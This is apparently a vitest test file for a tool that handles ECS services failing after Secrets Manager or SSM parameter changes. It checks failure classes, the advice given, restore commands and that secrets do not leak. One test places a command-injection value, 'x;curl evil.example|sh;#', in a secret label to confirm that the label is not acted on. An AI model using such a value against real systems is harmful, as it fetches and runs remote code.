import { execFileSync } from 'node:child_process';
import { describe, expect, test } from 'vitest';
import type { AwsEvent } from '../../simulator/index.ts';
import { currentMoved, type Loop, startLoop } from '../../support/loop.ts';
import { SENTINEL } from '../../support/stop-reasons.ts';

const DAY = 86_400_000;
const MINUTE = 60_000;
type ServiceSpec = NonNullable<Parameters<Loop['sim']['world']['service']>[0]>;

const NOT_JSON = `ResourceInitializationError: unable to retrieve secret from asm: invalid character 'h' looking for beginning of value ${SENTINEL}`;
const DENIED = 'ResourceInitializationError: AccessDeniedException: User is not authorized to perform: x';
const ROLLS_BACK = { outcome: 'rollback-new-primary', durationMs: 20_000, reason: NOT_JSON } as const;

/** A secret that a service uses, whose new tasks fail. */
async function failing(spec: ServiceSpec = {}, name = 'prod/db') {
  const loop = await startLoop();
  const secret = loop.sim.world.secret({
    name,
    createdAt: loop.clock.now() - DAY,
    lastChangedAt: loop.clock.now() - DAY,
  });
  const service = loop.sim.world.service({
    secrets: [secret.arn],
    startedAt: loop.clock.now() - DAY,
    rollout: ROLLS_BACK,
    ...spec,
    name: 'api',
  });
  return { loop, secret, service };
}

/** A person stores a value; the answer is the native event, which is not sent. */
function put(loop: Loop, secretId: string, ClientRequestToken: string): AwsEvent {
  const before = loop.sim.events.length;
  loop.sim.act('secretsmanager', 'PutSecretValue', {
    SecretId: secretId,
    SecretString: SENTINEL,
    ClientRequestToken,
  });
  const event = loop.sim.events.slice(before).find((one) => one['detail-type'] === 'Secret Label Updated');
  if (event === undefined) throw new Error('expected the event Secret Label Updated, found none');
  return event;
}

const V = (n: number) => `${'0'.repeat(31)}${n}-version-of-the-test`;

/** Puts a value that is bad, and answers what the failure says. */
async function failureAfter(loop: Loop, event: AwsEvent, before: () => void = () => undefined) {
  loop.send(event);
  before();
  await loop.run();
  const failed = loop.told('service.failed').filter(({ changeId }) => changeId === event.id);
  expect(failed).toHaveLength(1);
  expect(
    JSON.stringify([loop.records, loop.sim.events.filter(({ source }) => source === 'secret-redeploy')]),
  ).not.toContain(SENTINEL);
  return failed[0] ?? {};
}

/** The words that a shell hands on to `aws`. */
function wordsOf(command: unknown): readonly string[] {
  const aws = String.raw`aws() { for one in "$@"; do printf '%s\0' "$one"; done; }`;
  return execFileSync('sh', ['-c', `${aws}; ${String(command)}`], { encoding: 'utf8' })
    .split('\0')
    .slice(0, -1);
}

describe('after a value that a person stored, whose tasks cannot start,', () => {
  test('the failure says the class and the command that puts the version before back', async () => {
    const { loop, secret } = await failing();
    put(loop, secret.arn, V(1));
    loop.clock.advance(DAY);
    loop.sim.advance();
    const failed = await failureAfter(loop, put(loop, secret.arn, V(2)));
    expect(failed).toMatchObject({
      reason: 'rolled-back',
      failure: { class: 'not-json', code: 'ResourceInitializationError' },
      advice: 'restore',
    });
    expect(wordsOf(failed['restore'])).toEqual([
      'secretsmanager',
      'update-secret-version-stage',
      '--region',
      loop.sim.region,
      '--secret-id',
      secret.arn,
      '--version-stage=AWSCURRENT',
      `--move-to-version-id=${V(1)}`,
      `--remove-from-version-id=${V(2)}`,
    ]);
  });

  test('a mended value that is stored meanwhile is not replaced by the bad one, though its event is late', async () => {
    const { loop, secret, service } = await failing();
    const bad = put(loop, secret.arn, V(2));
    loop.send(bad);
    await loop.run(15_000);
    loop.clock.advance(6_000);
    loop.sim.advance();
    const good = put(loop, secret.arn, V(3));
    await loop.run();
    const [failed] = loop.told('service.failed');
    expect(failed).toMatchObject({
      changeId: bad.id,
      advice: 'newer-version',
      failure: { class: 'not-json' },
    });
    expect(failed).not.toHaveProperty('restore');
    expect(good.id).not.toBe(bad.id);
    expect(service.name).toBe('api');
  });

  test('a custom label is not put back by a guess, whatever its name holds', async () => {
    const label = 'x;curl evil.example|sh;#';
    const loop = await startLoop();
    const secret = loop.sim.world.secret({ name: 'prod/db' });
    loop.sim.world.service({
      name: 'api',
      secrets: [`${secret.arn}::${label}:`],
      startedAt: loop.clock.now() - DAY,
      rollout: ROLLS_BACK,
    });
    const before = loop.sim.events.length;
    loop.sim.act('secretsmanager', 'PutSecretValue', {
      SecretId: secret.arn,
      SecretString: SENTINEL,
      ClientRequestToken: V(2),
      VersionStages: [label],
    });
    const event = loop.sim.events.slice(before).find((one) => one['detail-type'] === 'Secret Label Updated');
    if (event === undefined) throw new Error('expected an event about the custom label, found none');
    const failed = await failureAfter(loop, event);
    expect(failed).toMatchObject({ advice: 'compare-versions' });
    expect(failed).not.toHaveProperty('restore');
  });

  test.each([
    ['the reason is a missing permission', DENIED, 'denied', 'repair'],
    ['the image cannot be pulled', 'CannotPullContainerError: manifest unknown', 'image', 'repair'],
    ['no place is free', 'ResourceInitializationError: RESOURCE:ENI', 'placement', 'repair'],
  ])('there is no command if %s', async (_, reason, name, advice) => {
    const { loop, secret } = await failing({ rollout: { ...ROLLS_BACK, reason } });
    const failed = await failureAfter(loop, put(loop, secret.arn, V(2)));
    expect(failed).toMatchObject({ advice, failure: { class: name } });
    expect(failed).not.toHaveProperty('restore');
  });

  test.each([
    ['DescribeSecret', 'compare-versions'],
    ['ListTasks', 'look-at-tasks'],
    ['DescribeTasks', 'look-at-tasks'],
  ])('the failure is told without a command if %s is denied', async (operation, advice) => {
    const { loop, secret } = await failing();
    const failed = await failureAfter(loop, put(loop, secret.arn, V(2)), () => {
      loop.clock.advance(3_000);
      const at = loop.clock.now() + 10_000;
      loop.sim.faults.add({
        operation,
        kind: 'access-denied',
        times: Infinity,
        match: () => loop.clock.now() > at,
      });
    });
    expect(failed).toMatchObject({ advice });
    expect(failed).not.toHaveProperty('restore');
  });
});

describe('after a rotation whose tasks cannot start, the password before is not put back:', () => {
  test.each(['rds!db-1a2b', 'prod/db'])('%s', async (name) => {
    const { loop } = await failing({}, name);
    const failed = await failureAfter(loop, currentMoved(loop.sim, name));
    expect(failed).toMatchObject({ advice: 'rotate-again', failure: { class: 'not-json' } });
    expect(failed).not.toHaveProperty('restore');
  });
});

describe('a service whose deployment by CI had failed before the change', () => {
  test('is told so, and the label is not put back', async () => {
    const { loop, secret, service } = await failing({
      rollout: { outcome: 'fail', durationMs: 20_000, reason: 'it crashes' },
    });
    loop.sim.world.deploy(service, { by: 'CI' });
    loop.clock.advance(2 * MINUTE);
    loop.sim.advance();
    const failed = await failureAfter(loop, put(loop, secret.arn, V(2)));
    expect(failed).toMatchObject({ advice: 'failed-before', failure: { class: 'essential-exit' } });
    expect(failed).not.toHaveProperty('restore');
  });

  test('and was rolled back may fail because of the value', async () => {
    const { loop, secret, service } = await failing();
    loop.sim.world.deploy(service, { by: 'CI' });
    loop.clock.advance(2 * 3_600_000);
    loop.sim.advance();
    const failed = await failureAfter(loop, put(loop, secret.arn, V(2)));
    expect(failed).toMatchObject({ advice: 'restore' });
  });
});

describe('after a parameter that a person changed,', () => {
  test('the number before is put back', async () => {
    const loop = await startLoop();
    const parameter = loop.sim.world.parameter({ name: '/app/key' });
    loop.sim.world.service({
      name: 'api',
      secrets: [parameter.arn],
      startedAt: loop.clock.now() - DAY,
      rollout: ROLLS_BACK,
    });
    const before = loop.sim.events.length;
    loop.sim.act('ssm', 'PutParameter', { Name: '/app/key', Value: SENTINEL, Overwrite: true });
    const [event] = loop.sim.events.slice(before);
    if (event === undefined) throw new Error('expected an event about the parameter, found none');
    const failed = await failureAfter(loop, event);
    expect(failed).toMatchObject({ advice: 'restore', failure: { class: 'not-json' } });
    expect(String(failed['restore'])).toContain(' --name=/app/key:1 --with-decryption ');
  });
});
